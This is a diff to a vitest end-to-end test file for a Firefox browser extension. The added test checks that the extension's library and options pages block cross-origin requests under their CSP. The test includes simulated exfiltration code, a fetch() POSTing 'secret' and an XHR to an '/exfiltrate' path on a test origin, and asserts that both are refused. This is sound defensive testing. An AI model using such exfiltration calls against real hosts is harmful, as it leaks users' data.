@@ -8,7 +8,8 @@
  *   could run, no request to the payloads' beacon URLs;
  * - page script cannot press the reader's controls (.click(), a dispatched change), close it with a
  *   synthetic Escape or a forged takeover event, or take it off the screen after it opened;
- * - nor cover it with its own popover or modal dialog: the reader stays on top and gets the user's click.
+ * - nor cover it with its own popover or modal dialog: the reader stays on top and gets the user's click;
+ * - the library and options pages connect to no other origin (their CSP).
  * (Firefox has no triggerAction: the toolbar click goes through the e2e build's hook.)
  */
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
@@ -173,4 +174,36 @@ describe('hostile pages in Firefox ESR', () => {
       await overlayEval(page, (root) => { root.querySelector('.status')!.textContent = ''; });
     }
   });
+
+  for (const file of ['library.html', 'options.html']) {
+    it(`${file}: a fetch() or XHR to another origin is refused by the CSP; data: images still show`, async () => {
+      const ext = await firefox.browser.newPage();
+      opened.push(ext);
+      // page.goto('moz-extension://…') loads but never resolves (browser-testing.md): poll instead.
+      void ext.goto(firefox.extensionBase + file).catch(() => {});
+      expect(await until(() => ext.evaluate(() => location.protocol === 'moz-extension:'
+        && document.readyState === 'complete'), 10_000)).toBe(true);
+      const before = requests.length;
+      const result = await ext.evaluate(async (o) => {
+        const fetched = await fetch(`${o}/exfiltrate?fetch`, { method: 'POST', body: 'secret' })
+          .then(() => 'sent', (e: Error) => `refused: ${e.name}`);
+        const xhr = await new Promise<string>((resolve) => {
+          const x = new XMLHttpRequest();
+          x.onload = () => resolve('sent');
+          x.onerror = () => resolve('refused');
+          try { x.open('GET', `${o}/exfiltrate?xhr`); x.send(); } catch { resolve('refused'); }
+        });
+        const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
+        const data = await new Promise<number>((resolve) => {
+          const img = new Image();
+          img.onload = () => resolve(img.naturalWidth);
+          img.onerror = () => resolve(0);
+          img.src = `data:image/png;base64,${png}`;
+        });
+        return { fetched, xhr, data };
+      }, origin);
+      expect(result).toEqual({ fetched: 'refused: TypeError', xhr: 'refused', data: 1 });
+      expect(requests.slice(before).filter((u) => u.startsWith('/exfiltrate'))).toEqual([]);
+    });
+  }
 });
